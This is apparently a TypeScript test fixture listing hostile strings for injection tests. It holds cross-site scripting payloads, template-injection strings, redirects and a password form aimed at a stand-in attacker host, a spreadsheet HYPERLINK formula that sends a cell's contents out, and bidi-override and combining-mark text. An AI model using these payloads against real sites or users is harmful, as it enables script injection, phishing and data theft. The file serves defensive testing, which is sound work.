/** Texts for injection tests: scripts, direction overrides, stacked combining marks, very long words, spreadsheet formulas. */

/** Server of the attacker. No request may go there. */
export const attackerUrl = 'https://lair.example.net';

const payload = 'window.ran=1';

/** One text for each kind of attack. */
export const hostileTexts: readonly string[] = [
  `<script>${payload}</script>`,
  `"><script>${payload}</script>`,
  `<img src=x onerror="${payload}">`,
  `<img src="${attackerUrl}/pixel.png">`,
  `<svg onload="${payload}"><circle r="9"/></svg>`,
  `<svg><style><img src=x onerror="${payload}"></style></svg>`,
  `<iframe srcdoc="<script>parent.${payload}</script>"></iframe>`,
  `<a href="javascript:${payload}">a link</a>`,
  `[a link](javascript:${payload})`,
  `[another](data:text/html,<script>${payload}</script>)`,
  `![a picture](${attackerUrl}/markdown.png)`,
  `![x](x"onerror="${payload})`,
  `<details open ontoggle="${payload}">x</details>`,
  `<style>*{display:none}</style>`,
  `<base href="${attackerUrl}/">`,
  `<meta http-equiv="refresh" content="0;url=${attackerUrl}/">`,
  `<form action="${attackerUrl}/"><input name="password" type="password"></form>`,
  `<math><mtext><table><mglyph><style><img src=x onerror="${payload}">`,
  `</title></textarea></script><script>${payload}</script>`,
  `{{constructor.constructor('${payload}')()}}`,
  `\${${payload}}`,
  `=HYPERLINK("${attackerUrl}/"&A1,"see")`,
  '\u202Egnp.exe and \u2066isolated without an end',
  `Z${'\u0301\u0489\u035C'.repeat(60)} letters on letters`,
  '\u{1F468}\u200D\u{1F469}\u200D'.repeat(30),
  'W'.repeat(140),
  `${'ﷺ'.repeat(40)}${'\u200B'.repeat(20)}`,
];
